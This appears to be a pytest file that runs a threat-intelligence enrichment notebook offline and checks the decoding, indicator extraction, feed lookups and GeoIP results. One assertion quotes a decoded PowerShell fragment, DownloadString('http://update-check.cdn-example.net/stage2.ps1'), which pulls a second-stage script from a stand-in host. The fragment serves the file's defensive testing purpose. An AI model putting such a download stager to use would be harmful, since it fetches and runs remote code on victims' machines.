"""examples/notebooks/enrich.ipynb, run headless in a kernel (nbclient): decode →
indicators → TI lookup against the bundled feeds → TI browser → GeoIP against the bundled
test databases → map, offline, with the answers the bundled data gives."""

from __future__ import annotations

import pytest

pytest.importorskip("nbformat")
pytest.importorskip("nbclient")

from notebook_run import run_notebook, views_shown  # noqa: E402

# Run after the notebook's cells, in its kernel: what the pipeline found, as JSON.
FINDINGS = """
import json as _json
print("HK-ENRICH", _json.dumps({
    "encoding": decoded.loc[0, "encoding_type"],
    "decoded": decoded.loc[0, "decoded_string"],
    "iocs": sorted(map(list, iocs[["IoCType", "Observable"]].itertuples(index=False))),
    "ip_types": dict(zip(classified["Observable"], classified["result"])),
    "hits": sorted(map(list, hits[["Ioc", "Provider", "Severity"]].itertuples(index=False))),
    "benign": sorted(ti.loc[~ti["Result"], "Ioc"]),
    "countries": {a: c if isinstance(c, str) else None for a, c in zip(points["IpAddress"], points["CountryCode"])},
    "asn": {a: int(n) for a, n in zip(points["IpAddress"], points["Asn"]) if n == n},
    "colours": dict(zip(points["IpAddress"], points["Severity"])),
}))
"""


@pytest.fixture(scope="module")
def executed():
    return run_notebook("enrich.ipynb", FINDINGS, "HK-ENRICH")


def test_the_pipeline_ends_in_its_views(executed) -> None:
    cells, _ = executed
    kinds = [v.split(".")[-1].split(" ")[0] for v in views_shown(cells)]
    assert kinds == ["PayloadView", "TiBrowser", "GeoMap"]


def test_the_command_decodes_and_gives_its_indicators(executed) -> None:
    _, found = executed
    assert found["encoding"] == "utf-16"
    assert "DownloadString('http://update-check.cdn-example.net/stage2.ps1')" in found["decoded"]
    addresses = ["81.2.69.160", "89.160.20.130", "216.160.83.58", "175.16.199.10", "77.90.185.20", "10.20.30.40"]
    assert found["iocs"] == sorted(
        [["url", "http://update-check.cdn-example.net/stage2.ps1"], ["dns", "update-check.cdn-example.net"], ["dns", "www.google.com"]]
        + [["ipv4", a] for a in addresses]
    )
    assert found["ip_types"] == {**{a: "Public" for a in addresses[:5]}, "10.20.30.40": "Private"}


def test_the_feeds_answer_as_their_files_say(executed) -> None:
    _, found = executed
    assert found["hits"] == [
        ["216.160.83.58", "campaign", "warning"],
        ["77.90.185.20", "ipsum-level3", "high"],
        ["81.2.69.160", "campaign", "high"],
        ["update-check.cdn-example.net", "campaign", "high"],
    ]
    # Warning-list matches are known-benign values, not hits.
    assert found["benign"] == ["10.20.30.40", "www.google.com"]


def test_the_test_databases_locate_their_networks(executed) -> None:
    _, found = executed
    assert found["countries"] == {
        "81.2.69.160": "GB",
        "89.160.20.130": "SE",
        "216.160.83.58": "US",
        "175.16.199.10": "CN",
        "77.90.185.20": None,
        "10.20.30.40": None,
    }
    assert found["asn"] == {"89.160.20.130": 29518, "216.160.83.58": 209}
    assert found["colours"]["81.2.69.160"] == "high" and found["colours"]["216.160.83.58"] == "warning"
